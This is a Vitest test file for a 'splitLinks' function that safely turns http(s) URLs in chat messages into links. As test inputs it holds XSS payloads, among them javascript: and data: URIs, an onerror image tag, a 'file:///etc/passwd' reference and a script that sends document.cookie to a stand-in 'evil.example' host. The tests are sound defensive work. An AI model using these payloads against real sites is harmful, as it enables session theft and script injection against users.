import { describe, expect, it } from 'vitest';
import { splitLinks } from './message-links.js';

describe('splitLinks', () => {
  it('finds http(s) URLs and leaves the sentence punctuation outside them', () => {
    expect(
      splitLinks('Answers: https://example.com/help — or write through https://example.com/contact.'),
    ).toEqual([
      { kind: 'text', text: 'Answers: ' },
      { kind: 'link', text: 'https://example.com/help', href: 'https://example.com/help' },
      { kind: 'text', text: ' — or write through ' },
      { kind: 'link', text: 'https://example.com/contact', href: 'https://example.com/contact' },
      { kind: 'text', text: '.' },
    ]);
  });

  it('keeps a parenthesis the URL opened and drops one the sentence opened', () => {
    expect(splitLinks('(see http://x.se/a_(b))')).toEqual([
      { kind: 'text', text: '(see ' },
      { kind: 'link', text: 'http://x.se/a_(b)', href: 'http://x.se/a_(b)' },
      { kind: 'text', text: ')' },
    ]);
  });

  it('never makes links of other schemes or of markup', () => {
    const hostile = 'javascript:alert(1) <a href="http://evil">x</a> ftp://files.example.com';
    const parts = splitLinks(hostile);
    expect(parts.filter((part) => part.kind === 'link')).toEqual([
      { kind: 'link', text: 'http://evil', href: 'http://evil/' },
    ]);
    expect(parts.map((part) => part.text).join('')).toBe(hostile);
  });

  it('returns plain text unchanged, and nothing for an empty message', () => {
    expect(splitLinks('Hej! Inga länkar här.')).toEqual([{ kind: 'text', text: 'Hej! Inga länkar här.' }]);
    expect(splitLinks('')).toEqual([]);
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(document.cookie)',
    ' jAvAsCrIpT :alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'file:///etc/passwd',
    'vbscript:msgbox(1)',
    'ftp://files.example.com http:/one-slash.example http:no-slash.example',
    'http://javascript:alert(1)',
    'xhttp://not-at-a-word-start.example',
  ])('keeps %j as plain text', (hostile) => {
    expect(splitLinks(hostile)).toEqual([{ kind: 'text', text: hostile }]);
  });

  it('ends a URL at a quote or an angle bracket: markup after it stays text, never part of the href', () => {
    const quoted = 'see http://x.se/"onmouseover="alert(1)';
    expect(splitLinks(quoted)).toEqual([
      { kind: 'text', text: 'see ' },
      { kind: 'link', text: 'http://x.se/', href: 'http://x.se/' },
      { kind: 'text', text: '"onmouseover="alert(1)' },
    ]);
    const tag = "http://x.se/'><img src=x onerror=alert(1)>";
    expect(splitLinks(tag)).toEqual([
      { kind: 'link', text: 'http://x.se/', href: 'http://x.se/' },
      { kind: 'text', text: "'><img src=x onerror=alert(1)>" },
    ]);
  });

  it('finds a URL inside a <script> as a link and leaves the script as text', () => {
    const script = '<script>location="http://evil.example/steal?c="+document.cookie</script>';
    const parts = splitLinks(script);
    expect(parts).toEqual([
      { kind: 'text', text: '<script>location="' },
      { kind: 'link', text: 'http://evil.example/steal?c=', href: 'http://evil.example/steal?c=' },
      { kind: 'text', text: '"+document.cookie</script>' },
    ]);
    expect(parts.map((part) => part.text).join('')).toBe(script);
  });

  it('gives every link an http(s) href, whatever the case of the scheme', () => {
    expect(splitLinks('HTTPS://EXAMPLE.COM/Path')).toEqual([
      { kind: 'link', text: 'HTTPS://EXAMPLE.COM/Path', href: 'https://example.com/Path' },
    ]);
    const mixed = 'a javascript:http://x.se b data:,http://y.se c';
    for (const part of splitLinks(mixed)) {
      if (part.kind === 'link') expect(part.href).toMatch(/^https?:\/\//);
    }
  });
});
